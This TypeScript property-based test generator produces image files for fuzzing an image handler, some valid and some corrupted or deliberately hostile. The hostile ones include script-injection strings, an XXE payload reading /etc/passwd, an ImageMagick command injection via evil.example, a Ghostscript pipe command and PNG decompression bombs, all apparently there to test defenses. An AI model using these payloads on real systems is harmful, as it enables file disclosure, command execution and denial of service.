import * as fc from 'fast-check';
import sharp from 'sharp';
import { photograph, pngBomb } from '../support/pictures';

/** Files that are pictures, look like some, or would harm whoever takes them for one. */
export async function pictureFiles(): Promise<fc.Arbitrary<Buffer>> {
  const jpeg = await photograph();
  const blank = sharp({ create: { width: 9, height: 9, channels: 4, background: '#335577' } });
  const [png, webp, gif, tiff] = await Promise.all([
    blank.clone().png().toBuffer(),
    blank.clone().webp().toBuffer(),
    blank.clone().gif().toBuffer(),
    blank.clone().tiff().toBuffer(),
  ]);
  // A few kilobytes that unpack to many megabytes.
  const plain = await sharp({
    create: { width: 5_000, height: 5_000, channels: 3, background: '#000' },
  })
    .png({ palette: true, compressionLevel: 9 })
    .toBuffer();
  const pictures = [jpeg, png!, webp!, gif!, tiff!];

  const whole = fc.constantFrom(...pictures);
  const damaged = fc
    .record({
      picture: whole,
      changes: fc.array(fc.tuple(fc.nat(9_999), fc.nat(255)), { minLength: 1, maxLength: 8 }),
    })
    .map(({ picture, changes }) => {
      const copy = Buffer.from(picture);
      for (const [place, byte] of changes) copy[place % copy.length] = byte;
      return copy;
    });
  const cutOff = fc
    .tuple(whole, fc.nat(999))
    .map(([picture, part]) => picture.subarray(0, Math.floor((picture.length * part) / 1_000)));
  const ofTwoKinds = fc
    .tuple(
      whole,
      fc.constantFrom('<script>alert(1)</script>', '*/=1;alert(1)//', 'PK\x03\x04', '%PDF-1.4'),
    )
    .map(([picture, tail]) => Buffer.concat([picture, Buffer.from(tail)]));
  const others = fc.constantFrom(
    ...[pngBomb(60_000), pngBomb(9_000), pngBomb(0), pngBomb(2 ** 32 - 1), Buffer.alloc(0)],
    ...[
      '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>',
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><svg>&b;</svg>',
      'GIF89a/*<svg/onload=alert(1)>*/=1',
      '<!DOCTYPE html><script>alert(1)</script>',
      'push graphic-context\nfill \'url(https://evil.example/"|ls")\'',
      '%!PS\n(%pipe%id) (w) file',
      'P6 99999 99999 255\n',
    ].map((text) => Buffer.from(text)),
  );
  return fc.oneof(
    { weight: 30, arbitrary: whole },
    { weight: 40, arbitrary: damaged },
    { weight: 20, arbitrary: cutOff },
    { weight: 20, arbitrary: ofTwoKinds },
    { weight: 30, arbitrary: others },
    { weight: 10, arbitrary: fc.uint8Array({ maxLength: 300 }).map((bytes) => Buffer.from(bytes)) },
    // Once in a while, because it takes its time.
    { weight: 1, arbitrary: fc.constant(plain) },
  );
}
